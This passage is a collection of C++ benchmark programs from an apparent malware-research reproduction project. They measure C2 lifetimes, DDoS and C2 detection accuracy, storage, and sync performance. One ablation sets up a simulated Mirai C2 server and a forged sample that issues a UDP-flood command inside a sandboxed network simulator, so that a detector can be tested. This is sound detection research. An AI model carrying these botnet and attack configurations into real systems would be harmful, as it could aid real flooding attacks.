        run_level(server.port(), clients, total_queries, expected, mismatches);
    std::printf("%8d  %12llu  %12.0f  %12.0f  %10.0f\n", r.clients,
                static_cast<unsigned long long>(r.responses), r.p50_us,
                r.p99_us, r.qps);
    results.push_back(r);
  }

  // Scrape-cost gate: a 64-client level with a live admin endpoint being
  // scraped continuously must keep (nearly) the QPS of the same level
  // unscraped. Two unscraped reference runs bound the run-to-run noise —
  // the scraped run is held to 99% of the *slower* reference, so only a
  // real scrape cost (not noise) fails the gate.
  double base_qps = 0.0, scraped_qps = 0.0, scrape_cost_pct = 0.0;
  std::uint64_t scrapes = 0;
  bool admin_ok = true;
  {
    obs::SnapshotRing ring;
    serve::AdminServer admin({}, registry);
    const auto merged_snapshot = [&registry, &st] {
      auto m = registry.snapshot();
      m.merge(st.metrics());
      return m;
    };
    admin.set_tick(
        [&ring, &merged_snapshot] {
          ring.push(obs::wall_now_us(), merged_snapshot());
        },
        250);
    admin.handle("/metrics", [&ring, &merged_snapshot] {
      std::vector<obs::ExpositionWindow> windows;
      if (auto w = ring.window(1'000'000)) windows.emplace_back("1s", *w);
      if (auto w = ring.window(10'000'000)) windows.emplace_back("10s", *w);
      serve::AdminResponse resp;
      resp.body = obs::render_prometheus(merged_snapshot(), windows);
      return resp;
    });
    admin.start();

    // 1 scrape/s — 15x hotter than the Prometheus default cadence, slow
    // enough that the gate measures the cost of *being scraped*, not CPU
    // contention with a pathological scrape-as-fast-as-possible loop. The
    // first scrape fires immediately, so even a fast gate sees >= 1.
    std::atomic<bool> done{false};
    std::atomic<bool> paused{true};
    std::atomic<std::uint64_t> scrape_count{0};
    std::string last_scrape;
    std::thread scraper([&] {
      bool fresh = true;  // scrape immediately on each unpause
      while (!done.load()) {
        if (paused.load()) {
          fresh = true;
          std::this_thread::sleep_for(std::chrono::milliseconds(5));
          continue;
        }
        if (!fresh) {
          for (int i = 0; i < 200 && !done.load() && !paused.load(); ++i) {
            std::this_thread::sleep_for(std::chrono::milliseconds(5));
          }
          if (done.load() || paused.load()) continue;
        }
        fresh = false;
        auto body = serve::admin_get("127.0.0.1", admin.port(), "/metrics");
        if (body) {
          last_scrape = std::move(*body);
          scrape_count.fetch_add(1);
        }
      }
    });
    // Short runs are dominated by scheduler noise, so each side runs 3x at
    // a longer level, interleaved (scraper toggled off for the base runs)
    // to decorrelate machine drift, and races on its best run — best-of-N
    // is stable at the top end where a real, systematic scrape cost would
    // still show. The floor keeps each timed run in the seconds range even
    // for a smoke-test CLI load: the cost of one scrape (a few ms of
    // snapshot + render) must be amortized over at least one full scrape
    // interval, or the gate measures scrape cost against an arbitrarily
    // small window and fails on any single-core machine.
    const int gate_queries = std::max(4 * total_queries, 100'000);
    std::vector<double> base_runs, scraped_runs;
    for (int i = 0; i < 3; ++i) {
      paused.store(false);
      scraped_runs.push_back(
          run_level(server.port(), 64, gate_queries, expected, mismatches)
              .qps);
      paused.store(true);
      base_runs.push_back(
          run_level(server.port(), 64, gate_queries, expected, mismatches)
              .qps);
    }
    done.store(true);
    scraper.join();
    admin.stop();

    base_qps = *std::max_element(base_runs.begin(), base_runs.end());
    scraped_qps = *std::max_element(scraped_runs.begin(), scraped_runs.end());
    scrapes = scrape_count.load();
    scrape_cost_pct =
        base_qps > 0 ? 100.0 * (1.0 - scraped_qps / base_qps) : 0.0;
    // The unscraped runs' own spread is the floor on what this machine can
    // resolve — the 1% budget is for the *systematic* cost sitting above
    // that noise, otherwise the gate fails on any loaded single-core box
    // whose back-to-back identical runs already differ by a few percent.
    const double base_min = *std::min_element(base_runs.begin(), base_runs.end());
    const double noise_pct =
        base_qps > 0 ? 100.0 * (1.0 - base_min / base_qps) : 0.0;
    std::printf("\nadmin scrape under load (64 clients, best of 3): base qps "
                "%.0f, scraped qps %.0f (cost %.2f%%, measurement noise "
                "%.2f%%), scrapes=%llu\n",
                base_qps, scraped_qps, scrape_cost_pct, noise_pct,
                static_cast<unsigned long long>(scrapes));
    if (scrapes == 0) {
      std::printf("MISMATCH (BUG): the admin endpoint answered no scrapes\n");
      admin_ok = false;
    }
    if (scrape_cost_pct > 1.0 + noise_pct) {
      std::printf("MISMATCH (BUG): scraping cost %.2f%% QPS (budget 1%% + "
                  "%.2f%% noise)\n",
                  scrape_cost_pct, noise_pct);
      admin_ok = false;
    }
    // The scrape must carry the estimated quantiles (the live view of the
    // p50/p99 this bench measures externally).
    if (last_scrape.find("serve_request_latency_us_q{q=\"0.99\"}") ==
        std::string::npos) {
      std::printf("MISMATCH (BUG): /metrics is missing the p99 estimate\n");
      admin_ok = false;
    }
    const auto est_p99 =
        merged_snapshot().quantile("serve.request_latency_us", 0.99);
    std::printf("histogram-estimated request p99: %.0f us\n",
                est_p99.value_or(0.0));
  }
  server.stop();

  bool ok = admin_ok;
  if (mismatches.load() > 0) {
    std::printf("\nMISMATCH (BUG): %d client(s) saw a wrong/missing answer\n",
                mismatches.load());
    ok = false;
  }
  const auto snap = st.metrics();
  const auto it = snap.counters.find("store.payload_bytes_read");
  if (it != snap.counters.end() && it->second != 0) {
    std::printf("\nMISMATCH (BUG): serving read %llu payload bytes\n",
                static_cast<unsigned long long>(it->second));
    ok = false;
  }

  {
    std::ofstream out("bench_metrics.json");
    if (out) {
      out << "{\"samples\":" << samples << ",\"levels\":[";
      for (std::size_t i = 0; i < results.size(); ++i) {
        const auto& r = results[i];
        out << (i ? "," : "") << "{\"clients\":" << r.clients
            << ",\"responses\":" << r.responses << ",\"p50_us\":" << r.p50_us
            << ",\"p99_us\":" << r.p99_us << ",\"qps\":" << r.qps << "}";
      }
      out << "],\"identical\":" << (mismatches.load() == 0 ? "true" : "false")
          << ",\"admin\":{\"base_qps\":" << base_qps
          << ",\"scraped_qps\":" << scraped_qps << ",\"scrapes\":" << scrapes
          << ",\"cost_pct\":" << scrape_cost_pct << "}}\n";
    }
  }

  if (!baseline.empty()) {
    std::printf("\n");
    if (!check_baseline(results, baseline, tolerance)) ok = false;
  }
  std::printf("\nExpected shape: p50 well under a millisecond at 1 client; "
              "p99 grows with\nconcurrency but stays in the low-millisecond "
              "band at 1024 clients; answers\nbyte-identical throughout and "
              "payloads never read.\n");
  return ok ? 0 : 1;
}
