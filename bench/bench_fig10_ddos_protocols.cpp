// Auto-structured reproduction bench; see DESIGN.md experiment index.
#include <iostream>

#include "common.hpp"
#include "report/figures.hpp"
#include "report/tables.hpp"

int main() {
  using namespace malnet;
  bench::banner("Figure 10", "DDoS attacks by protocol");
  const auto& r = bench::full_study();
  const auto& p = bench::full_pipeline();
  (void)p;
  std::cout << report::figure10_ddos_protocols(r, p.asdb()) << std::endl;
  return 0;
}
