#include "common.hpp"

#include <cstdio>
#include <fstream>

namespace malnet::bench {

core::PipelineConfig paper_config() {
  core::PipelineConfig cfg;
  cfg.seed = 22;  // the study seed; all tables/figures regenerate from it
  return cfg;
}

namespace {
core::Pipeline& pipeline_instance() {
  static core::Pipeline pipeline(paper_config());
  return pipeline;
}
}  // namespace

const core::StudyResults& full_study() {
  static const core::StudyResults kResults = [] {
    core::StudyResults r = pipeline_instance().run();
    // Every bench process leaves the run's registry snapshot behind, so a
    // perf regression can be cross-checked against its op counts.
    std::ofstream out("bench_metrics.json");
    if (out) out << r.metrics.to_json() << '\n';
    return r;
  }();
  return kResults;
}

const core::Pipeline& full_pipeline() {
  (void)full_study();
  return pipeline_instance();
}

void banner(const char* experiment_id, const char* what) {
  std::printf("=== MalNet reproduction: %s — %s ===\n", experiment_id, what);
  std::printf("(deterministic full-study run, seed %llu; paper values shown "
              "for comparison)\n\n",
              static_cast<unsigned long long>(paper_config().seed));
}

}  // namespace malnet::bench
