// Auto-structured reproduction bench; see DESIGN.md experiment index.
#include <iostream>

#include "common.hpp"
#include "report/figures.hpp"
#include "report/tables.hpp"

int main() {
  using namespace malnet;
  bench::banner("Figure 8", "per-vulnerability exploitation over time");
  const auto& r = bench::full_study();
  const auto& p = bench::full_pipeline();
  (void)p;
  std::cout << report::figure8_vuln_timeseries(r) << std::endl;
  return 0;
}
