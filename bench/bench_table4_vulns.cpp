// Auto-structured reproduction bench; see DESIGN.md experiment index.
#include <iostream>

#include "common.hpp"
#include "report/figures.hpp"
#include "report/tables.hpp"

int main() {
  using namespace malnet;
  bench::banner("Table 4", "exploited vulnerabilities");
  const auto& r = bench::full_study();
  const auto& p = bench::full_pipeline();
  (void)p;
  std::cout << report::table4_vulnerabilities(r) << std::endl;
  return 0;
}
