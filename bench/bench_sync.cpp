// Sync S4: replication cost of the hash-tree sync protocol (DESIGN.md §14).
//
// Three producers each run `rounds` incremental study batches, pushing
// their store to one aggregator after every batch. Reports, per round, the
// bytes the sync protocol put on the wire against the naive alternative
// (full-copy replication: re-ship every producer's whole store each
// round), plus the final savings ratio. Four correctness gates run
// alongside the numbers, any failure exits 1:
//   * convergence: after the last round the aggregator holds exactly the
//     union of the producers' segment sets, and compacting it yields a
//     store byte-identical to importing every segment directly;
//   * re-sync is a no-op: a final push from every producer transfers zero
//     segments;
//   * refinement pays: cumulative sync bytes stay below cumulative naive
//     full-copy bytes once there is history to skip (rounds >= 2);
//   * with a baseline file, total wire bytes must stay within
//     tolerance x baseline (the CI gate against the committed
//     BENCH_sync.json).
// Results land in bench_metrics.json (same shape as BENCH_sync.json).
//
//   bench_sync [samples_per_batch] [rounds] [baseline.json] [tolerance]
//   defaults:   60                  3        (none)          1.5
#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <memory>
#include <sstream>
#include <string>
#include <vector>

#include "core/parallel_study.hpp"
#include "obs/json.hpp"
#include "serve/server.hpp"
#include "store/store.hpp"
#include "sync/client.hpp"
#include "sync/session.hpp"
#include "sync/wire.hpp"

namespace {

using namespace malnet;

constexpr int kProducers = 3;

struct RoundResult {
  int round = 0;
  std::uint64_t segments_sent = 0;
  std::uint64_t wire_bytes = 0;   // sync frames, both directions
  std::uint64_t naive_bytes = 0;  // full-copy cost: every store's total size
  std::uint64_t saved_bytes = 0;  // segment volume refinement skipped
};

std::uint64_t store_total_bytes(store::Store& st) {
  std::uint64_t total = 0;
  for (const auto& meta : st.segments()) total += meta.bytes;
  return total;
}

/// Full on-disk identity of a store: MANIFEST plus every segment file.
std::string store_snapshot(const std::string& dir) {
  const auto slurp = [](const std::filesystem::path& path) {
    std::ifstream f(path, std::ios::binary);
    std::ostringstream s;
    s << f.rdbuf();
    return s.str();
  };
  std::ostringstream out;
  out << "MANIFEST\n" << slurp(dir + "/MANIFEST");
  std::vector<std::filesystem::path> files;
  for (const auto& entry :
       std::filesystem::directory_iterator(dir + "/segments")) {
    files.push_back(entry.path());
  }
  std::sort(files.begin(), files.end());
  for (const auto& p : files) out << p.filename().string() << '\n' << slurp(p);
  return out.str();
}

bool check_baseline(std::uint64_t wire_bytes_total, const std::string& path,
                    double tolerance) {
  std::ifstream in(path);
  if (!in) {
    std::printf("BASELINE: cannot open %s\n", path.c_str());
    return false;
  }
  std::stringstream ss;
  ss << in.rdbuf();
  const auto doc = obs::json::parse(ss.str());
  const auto* total = doc ? doc->find("wire_bytes_total") : nullptr;
  if (!total || !total->is_number()) {
    std::printf("BASELINE: %s is not a bench_sync metrics file\n", path.c_str());
    return false;
  }
  const double limit = total->number * tolerance;
  const bool pass = static_cast<double>(wire_bytes_total) <= limit;
  std::printf("baseline: wire bytes %llu vs limit %.0f (baseline %.0f x %.1f)"
              "  %s\n",
              static_cast<unsigned long long>(wire_bytes_total), limit,
              total->number, tolerance, pass ? "ok" : "REGRESSION");
  return pass;
}

}  // namespace

int main(int argc, char** argv) {
  std::printf("=== MalNet reproduction: Sync S4 — replication bytes on the "
              "wire vs full copy ===\n\n");
  const int samples = argc > 1 ? std::atoi(argv[1]) : 60;
  const int rounds = argc > 2 ? std::atoi(argv[2]) : 3;
  const std::string baseline = argc > 3 ? argv[3] : "";
  const double tolerance = argc > 4 ? std::atof(argv[4]) : 1.5;

  std::vector<std::string> producer_dirs;
  for (int p = 0; p < kProducers; ++p) {
    const auto dir = "bench-sync.p" + std::to_string(p);
    std::filesystem::remove_all(dir);
    producer_dirs.push_back(dir);
  }
  const std::string agg_dir = "bench-sync.agg";
  std::filesystem::remove_all(agg_dir);

  store::Store aggregator(agg_dir);
  obs::Registry registry;
  sync::SessionHandler handler(aggregator, registry);
  serve::ServeConfig scfg;
  scfg.io_threads = 2;
  scfg.aux_handler = [&handler](util::BytesView body,
                                const serve::AuxContext& ctx) {
    return handler.handle(body, ctx.peer);
  };
  scfg.max_aux_frame_body = sync::kMaxSyncFrameBody;
  serve::Server server(aggregator, scfg, registry);
  server.start();

  std::printf("producers=%d samples/batch=%d rounds=%d\n\n", kProducers,
              samples, rounds);
  std::printf("%6s  %10s  %14s  %14s  %14s\n", "round", "segments",
              "sync (bytes)", "naive (bytes)", "saved (bytes)");

  bool ok = true;
  std::vector<RoundResult> results;
  std::uint64_t wire_total = 0, naive_total = 0, naive_tail = 0, sync_tail = 0;
  for (int round = 1; round <= rounds; ++round) {
    RoundResult r;
    r.round = round;
    for (int p = 0; p < kProducers; ++p) {
      store::Store producer(producer_dirs[static_cast<std::size_t>(p)]);
      // One new study batch per round: a distinct seed gives a distinct
      // fingerprint, so the batch lands as fresh segments next to history.
      core::ParallelStudyConfig cfg;
      cfg.base.seed = 100 * static_cast<std::uint64_t>(p + 1) +
                      static_cast<std::uint64_t>(round);
      cfg.base.world.total_samples = samples;
      cfg.base.run_probe_campaign = false;
      cfg.shards = 2;
      cfg.jobs = 2;
      (void)store::run_store_study(cfg, producer, /*resume=*/false);

      sync::SyncClient client(producer);
      if (!client.connect("127.0.0.1", server.port())) {
        std::printf("MISMATCH (BUG): producer %d cannot connect\n", p);
        return 1;
      }
      const auto stats = client.push();
      if (!stats) {
        std::printf("MISMATCH (BUG): producer %d push failed in round %d\n", p,
                    round);
        return 1;
      }
      r.segments_sent += stats->segments_sent;
      r.wire_bytes += stats->bytes_on_wire;
      r.saved_bytes += stats->bytes_saved;
      r.naive_bytes += store_total_bytes(producer);
    }
    std::printf("%6d  %10llu  %14llu  %14llu  %14llu\n", r.round,
                static_cast<unsigned long long>(r.segments_sent),
                static_cast<unsigned long long>(r.wire_bytes),
                static_cast<unsigned long long>(r.naive_bytes),
                static_cast<unsigned long long>(r.saved_bytes));
    wire_total += r.wire_bytes;
    naive_total += r.naive_bytes;
    if (round >= 2) {
      sync_tail += r.wire_bytes;
      naive_tail += r.naive_bytes;
    }
    results.push_back(r);
  }

  // Gate: re-sync is a no-op — one more push per producer moves nothing.
  std::uint64_t resync_segments = 0, resync_bytes = 0;
  for (int p = 0; p < kProducers; ++p) {
    store::Store producer(producer_dirs[static_cast<std::size_t>(p)]);
    sync::SyncClient client(producer);
    if (!client.connect("127.0.0.1", server.port())) return 1;
    const auto stats = client.push();
    if (!stats) return 1;
    resync_segments += stats->segments_sent;
    resync_bytes += stats->bytes_on_wire;
  }
  if (resync_segments != 0) {
    std::printf("\nMISMATCH (BUG): re-sync transferred %llu segment(s)\n",
                static_cast<unsigned long long>(resync_segments));
    ok = false;
  }
  server.stop();

  // Gate: convergence — the aggregator holds the union, and compacting it
  // is byte-identical to a direct no-network import of every segment.
  std::vector<std::string> expected_union;
  std::vector<std::pair<std::string, util::Bytes>> all_segments;
  for (int p = 0; p < kProducers; ++p) {
    store::Store producer(producer_dirs[static_cast<std::size_t>(p)]);
    for (const auto& hash : producer.segment_hashes()) {
      expected_union.push_back(hash);
      all_segments.emplace_back(hash, *producer.read_segment_bytes(hash));
    }
  }
  std::sort(expected_union.begin(), expected_union.end());
  expected_union.erase(
      std::unique(expected_union.begin(), expected_union.end()),
      expected_union.end());
  bool converged = aggregator.segment_hashes() == expected_union;
  if (converged) {
    const std::string ref_dir = "bench-sync.ref";
    std::filesystem::remove_all(ref_dir);
    {
      store::Store ref(ref_dir);
      std::sort(all_segments.begin(), all_segments.end(),
                [](const auto& a, const auto& b) { return a.first < b.first; });
      for (const auto& [hash, bytes] : all_segments) {
        (void)ref.import_segment(util::BytesView{bytes});
      }
      (void)ref.compact();
    }
    (void)aggregator.compact();
    converged = store_snapshot(agg_dir) == store_snapshot(ref_dir);
    std::filesystem::remove_all(ref_dir);
  }
  if (!converged) {
    std::printf("\nMISMATCH (BUG): aggregator did not converge to the "
                "reference store\n");
    ok = false;
  }

  const double savings_ratio =
      wire_total > 0 ? static_cast<double>(naive_total) /
                           static_cast<double>(wire_total)
                     : 0.0;
  std::printf("\ntotals: sync=%llu naive=%llu savings=%.2fx  "
              "resync_bytes=%llu\n",
              static_cast<unsigned long long>(wire_total),
              static_cast<unsigned long long>(naive_total), savings_ratio,
              static_cast<unsigned long long>(resync_bytes));
  // Gate: once there is history to skip, refinement must beat full copy.
  if (rounds >= 2 && sync_tail >= naive_tail) {
    std::printf("MISMATCH (BUG): incremental sync (%llu bytes) did not beat "
                "naive full copy (%llu bytes)\n",
                static_cast<unsigned long long>(sync_tail),
                static_cast<unsigned long long>(naive_tail));
    ok = false;
  }

  {
    std::ofstream out("bench_metrics.json");
    if (out) {
      out << "{\"producers\":" << kProducers << ",\"samples\":" << samples
          << ",\"rounds\":[";
      for (std::size_t i = 0; i < results.size(); ++i) {
        const auto& r = results[i];
        out << (i ? "," : "") << "{\"round\":" << r.round
            << ",\"segments_sent\":" << r.segments_sent
            << ",\"wire_bytes\":" << r.wire_bytes
            << ",\"naive_bytes\":" << r.naive_bytes
            << ",\"saved_bytes\":" << r.saved_bytes << "}";
      }
      out << "],\"wire_bytes_total\":" << wire_total
          << ",\"naive_bytes_total\":" << naive_total
          << ",\"resync_segments\":" << resync_segments
          << ",\"converged\":" << (converged ? "true" : "false") << "}\n";
    }
  }

  if (!baseline.empty()) {
    std::printf("\n");
    if (!check_baseline(wire_total, baseline, tolerance)) ok = false;
  }
  std::printf("\nExpected shape: round 1 ships everything (plus refinement "
              "overhead); later\nrounds ship only the new batches while naive "
              "full copy re-ships history, so\nthe gap widens every round; "
              "re-sync moves zero segments; the compacted\naggregator is "
              "byte-identical to a direct import of every segment.\n");
  return ok ? 0 : 1;
}
