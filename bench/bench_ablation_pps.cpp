// Ablation: the behavioural DDoS-detection threshold (§2.5b fixes 100 pps).
// Replays one live capture through detect_ddos at different thresholds.
#include <iostream>

#include "botnet/c2server.hpp"
#include "common.hpp"
#include "core/ddos.hpp"
#include "emu/sandbox.hpp"
#include "mal/binary.hpp"
#include "util/str.hpp"

int main() {
  using namespace malnet;
  bench::banner("Ablation A2", "behavioural pps threshold (§2.5b)");

  // Build one live-run capture: a C2 that issues commands in an unprofiled
  // grammar, so only the behavioural method can recover them.
  sim::EventScheduler sched;
  sim::Network net(sched);
  botnet::C2ServerConfig cfg;
  cfg.family = proto::Family::kMirai;
  cfg.ip = net::Ipv4{60, 1, 2, 3};
  cfg.port = 23;
  cfg.accept_prob = 1.0;
  proto::AttackCommand atk;
  atk.type = proto::AttackType::kUdpFlood;
  atk.target = {net::Ipv4{203, 0, 113, 9}, 8080};
  atk.duration_s = 30;
  cfg.attack_plan = {atk};
  botnet::C2Server server(net, cfg, util::Rng(1));

  mal::MbfBinary bin;
  bin.behavior.family = proto::Family::kMirai;
  bin.behavior.c2_ip = cfg.ip;
  bin.behavior.c2_port = 23;
  // A scan task adds ~10 pps of legitimate-rate noise the heuristic must
  // not confuse with an attack.
  bin.behavior.scans.push_back({23, std::nullopt, 60, 10.0});
  util::Rng rng(2);

  emu::Sandbox sandbox(net);
  emu::SandboxOptions opts;
  opts.mode = emu::SandboxMode::kLive;
  opts.duration = sim::Duration::minutes(40);
  opts.allowed_c2 = net::Endpoint{cfg.ip, 23};
  opts.attack_pps = 200.0;

  emu::SandboxReport report;
  sandbox.start(mal::forge(bin, rng), opts,
                [&](const emu::SandboxReport& r) { report = r; });
  sched.run_until(sched.now() + sim::Duration::hours(1));

  std::cout << util::pad_left("pps-threshold", 14) << util::pad_left("detections", 12)
            << util::pad_left("verified", 10) << util::pad_left("false-pos", 11) << '\n';
  for (const double threshold : {10.0, 25.0, 50.0, 100.0, 150.0, 250.0, 400.0}) {
    core::DdosDetectOptions dopts;
    dopts.pps_threshold = threshold;
    const auto dets = core::detect_ddos(report, *opts.allowed_c2, std::nullopt, dopts);
    int verified = 0, fp = 0;
    for (const auto& d : dets) {
      if (d.verified) ++verified;
      if (d.command.target.ip != atk.target.ip) ++fp;
    }
    std::cout << util::pad_left(util::fixed(threshold, 0), 14)
              << util::pad_left(std::to_string(dets.size()), 12)
              << util::pad_left(std::to_string(verified), 10)
              << util::pad_left(std::to_string(fp), 11) << '\n';
  }
  std::cout << "\nExpected shape: thresholds below scan rates admit false positives;\n"
               "thresholds above the generated attack rate (200 pps) miss the attack.\n"
               "The paper's 100 pps sits in the wide stable window between them.\n";
  return 0;
}
