// Store S2: overhead and latency of the crash-safe incremental store.
//
// Three questions, each printed next to its target:
//   1. Commit overhead — a --store study fsyncs one segment per shard; at
//      --jobs=8 the extra wall time over the plain executor should stay
//      under ~5% (commits overlap shard computation).
//   2. Resume speed — a fully-committed store resumes without running any
//      pipeline; wall time is pure load+verify+merge.
//   3. Cold query latency — `malnetctl query` on a fresh process reads only
//      header+index per segment; microseconds, not the payload-sized
//      milliseconds a full load would cost.
// The merged artifacts are byte-compared on every path: any mismatch is a
// bug and exits nonzero. Results land in bench_metrics.json.
//
//   bench_store [total_samples]   (default 600)
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>

#include "common.hpp"
#include "core/parallel_study.hpp"
#include "report/dataset_io.hpp"
#include "store/query.hpp"
#include "store/store.hpp"

namespace {

double seconds_since(std::chrono::steady_clock::time_point t0) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
      .count();
}

}  // namespace

int main(int argc, char** argv) {
  using namespace malnet;
  bench::banner("Store S2", "crash-safe store: commit overhead, resume, query");

  core::ParallelStudyConfig cfg;
  cfg.base = bench::paper_config();
  cfg.base.run_probe_campaign = false;
  cfg.base.world.total_samples = argc > 1 ? std::atoi(argv[1]) : 600;
  cfg.shards = 8;
  cfg.jobs = 8;

  const std::string dir = "bench-store.dir";
  std::filesystem::remove_all(dir);
  std::printf("samples=%d shards=%d jobs=%d store=%s\n\n",
              cfg.base.world.total_samples, cfg.shards, cfg.jobs, dir.c_str());

  auto t0 = std::chrono::steady_clock::now();
  const auto plain = core::ParallelStudy(cfg).run();
  const double plain_s = seconds_since(t0);
  const auto reference = report::serialize_datasets(plain);

  double store_s = 0.0, resume_s = 0.0;
  {
    store::Store st(dir);
    t0 = std::chrono::steady_clock::now();
    const auto stored = store::run_store_study(cfg, st, /*resume=*/false);
    store_s = seconds_since(t0);
    if (report::serialize_datasets(stored) != reference) {
      std::printf("MISMATCH (BUG): store-backed study diverged\n");
      return 1;
    }
  }
  {
    store::Store st(dir);
    t0 = std::chrono::steady_clock::now();
    const auto resumed = store::run_store_study(cfg, st, /*resume=*/true);
    resume_s = seconds_since(t0);
    if (report::serialize_datasets(resumed) != reference) {
      std::printf("MISMATCH (BUG): resumed study diverged\n");
      return 1;
    }
  }
  const double overhead_pct =
      plain_s > 0.0 ? (store_s / plain_s - 1.0) * 100.0 : 0.0;
  std::printf("%-26s  %8.2f s\n", "plain study (jobs=8)", plain_s);
  std::printf("%-26s  %8.2f s  (commit overhead %+.1f%%, target < 5%%)\n",
              "store-backed study", store_s, overhead_pct);
  std::printf("%-26s  %8.2f s  (no pipeline work, pure load+verify+merge)\n",
              "fully-resumed study", resume_s);

  // Cold queries: fresh handle per engine, index-only reads.
  const auto timed_query_us = [&dir](const char* label) {
    store::Store st(dir);
    const auto q0 = std::chrono::steady_clock::now();
    store::QueryEngine engine(st);
    const auto totals = engine.answer("totals");
    const auto series = engine.answer("c2-liveness");
    const double us = seconds_since(q0) * 1e6;
    std::printf("%-26s  %8.0f us  (%s)\n", label, us,
                totals.substr(0, totals.find(" exploits=")).c_str());
    return us;
  };
  const double cold_us = timed_query_us("cold query (8 segments)");

  store::Store(dir).compact();
  const double compact_us = timed_query_us("cold query (compacted)");

  std::printf(
      "\nExpected shape: commit overhead well under 5%% (fsync overlaps\n"
      "compute); resume far below the plain run; queries in the 100us-10ms\n"
      "band, payloads never read.\n");

  {
    std::ofstream out("bench_metrics.json");
    if (out) {
      out << "{\"samples\":" << cfg.base.world.total_samples
          << ",\"shards\":" << cfg.shards << ",\"plain_seconds\":" << plain_s
          << ",\"store_seconds\":" << store_s
          << ",\"commit_overhead_pct\":" << overhead_pct
          << ",\"resume_seconds\":" << resume_s
          << ",\"cold_query_us\":" << cold_us
          << ",\"compacted_query_us\":" << compact_us << ",\"identical\":true}"
          << '\n';
    }
  }
  return 0;
}
