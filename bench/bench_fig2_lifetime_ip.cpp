// Auto-structured reproduction bench; see DESIGN.md experiment index.
#include <iostream>

#include "common.hpp"
#include "report/figures.hpp"
#include "report/tables.hpp"

int main() {
  using namespace malnet;
  bench::banner("Figure 2", "CDF of C2 IP lifetimes");
  const auto& r = bench::full_study();
  const auto& p = bench::full_pipeline();
  (void)p;
  std::cout << report::figure2_lifetime_ip(r) << std::endl;
  return 0;
}
