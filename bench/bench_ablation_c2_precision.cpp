// Ablation: C2-classifier precision. CnCHunter reports ~90% precision for
// C2-bound traffic detection [17]; our samples carry benign periodic
// telemetry beacons that repeat exactly like C2 rendezvous. With the
// HTTP-flow heuristic disabled the naive classifier confuses them; enabled
// (the default) it recovers precision. Measured against world ground truth.
#include <iostream>

#include "common.hpp"
#include "core/c2detect.hpp"
#include "emu/sandbox.hpp"
#include "util/str.hpp"

int main() {
  using namespace malnet;
  bench::banner("Ablation A5", "C2 classifier precision vs the HTTP heuristic");

  for (const bool filter_http : {false, true}) {
    sim::EventScheduler sched;
    sim::Network net(sched);
    botnet::WorldConfig wc;
    wc.seed = 22;
    wc.total_samples = 250;
    wc.telemetry_fraction = 0.25;  // pressure the classifier
    botnet::World world(net, wc);
    emu::Sandbox sandbox(net);

    int tp = 0, fp = 0;
    std::size_t analysed = 0;
    core::C2DetectOptions dopts;
    dopts.filter_http_flows = filter_http;

    for (const auto& sample : world.samples()) {
      if (sample.truth_arch != mal::Arch::kMips32) continue;
      if (++analysed > 150) break;
      emu::SandboxReport report;
      sandbox.start(sample.binary, {}, [&](const emu::SandboxReport& r) { report = r; });
      sched.run_until(sched.now() + sim::Duration::minutes(12));
      for (const auto& cand : core::detect_c2(report, sandbox.martian(), dopts)) {
        // Ground truth: is this one of the sample's real C2 addresses?
        bool truth = false;
        for (const auto& ref : sample.truth_c2_refs) truth |= ref == cand.address;
        (truth ? tp : fp)++;
      }
    }
    const double precision = tp + fp > 0 ? static_cast<double>(tp) / (tp + fp) : 0;
    std::cout << (filter_http ? "HTTP heuristic ON : " : "HTTP heuristic OFF: ")
              << "TP=" << util::pad_left(std::to_string(tp), 4)
              << "  FP=" << util::pad_left(std::to_string(fp), 4)
              << "  precision=" << util::percent(precision) << '\n';
  }
  std::cout << "\nExpected shape: the naive classifier sits near the ~90% precision\n"
               "CnCHunter reports; the HTTP heuristic removes the benign-beacon\n"
               "false positives.\n";
  return 0;
}
