// Auto-structured reproduction bench; see DESIGN.md experiment index.
#include <iostream>

#include "common.hpp"
#include "report/figures.hpp"
#include "report/tables.hpp"

int main() {
  using namespace malnet;
  bench::banner("Figure 3", "CDF of C2 domain lifetimes");
  const auto& r = bench::full_study();
  const auto& p = bench::full_pipeline();
  (void)p;
  std::cout << report::figure3_lifetime_domain(r) << std::endl;
  return 0;
}
