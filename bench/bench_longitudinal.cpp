// Extension (§6b): "conduct a longitudinal study of malware of different
// years". Runs two study years — the 2021-22 configuration and a synthetic
// earlier-era cohort (slower C2 churn, pre-2021 exploit mix) — and prints
// the drift in the headline behaviours.
#include <iostream>

#include "common.hpp"
#include "report/summary.hpp"
#include "util/str.hpp"

namespace {

struct YearSummary {
  std::string label;
  malnet::report::LifespanStats lifespan;
  malnet::report::TiStats ti;
  malnet::report::DdosStats ddos;
  std::size_t c2s = 0;
  std::size_t exploits = 0;
};

YearSummary run_year(const std::string& label, std::uint64_t seed,
                     double lifetime_one_day, double dns_fraction) {
  using namespace malnet;
  core::PipelineConfig cfg;
  cfg.seed = seed;
  cfg.world.total_samples = 500;
  cfg.world.lifetime_one_day = lifetime_one_day;
  cfg.world.dns_c2_fraction = dns_fraction;
  cfg.run_probe_campaign = false;
  core::Pipeline pipeline(cfg);
  const auto results = pipeline.run();
  YearSummary out;
  out.label = label;
  out.lifespan = report::lifespan_stats(results);
  out.ti = report::ti_stats(results);
  out.ddos = report::ddos_stats(results, pipeline.asdb());
  out.c2s = results.d_c2s.size();
  out.exploits = results.d_exploits.size();
  return out;
}

}  // namespace

int main() {
  using namespace malnet;
  bench::banner("Longitudinal", "year-over-year drift (§6b future work)");

  // "2019-era": more static infrastructure (fewer 1-day C2s, more DNS
  // fronting) vs the study's disposable-botnet era.
  const auto early = run_year("2019-era", 19, 0.30, 0.15);
  const auto study = run_year("2021-22", 22, 0.55, 0.05);

  const auto row = [](const std::string& metric, const std::string& a,
                      const std::string& b) {
    std::cout << util::pad_right(metric, 34) << util::pad_left(a, 12)
              << util::pad_left(b, 12) << '\n';
  };
  row("metric", "2019-era", "2021-22");
  row("--------------------------", "--------", "--------");
  row("distinct C2s (500 samples)", std::to_string(early.c2s),
      std::to_string(study.c2s));
  row("P(observed lifespan = 1d)", util::percent(early.lifespan.one_day_fraction),
      util::percent(study.lifespan.one_day_fraction));
  row("mean observed lifespan (d)", util::fixed(early.lifespan.mean_days, 2),
      util::fixed(study.lifespan.mean_days, 2));
  row("dead C2 on arrival", util::percent(early.lifespan.dead_on_arrival),
      util::percent(study.lifespan.dead_on_arrival));
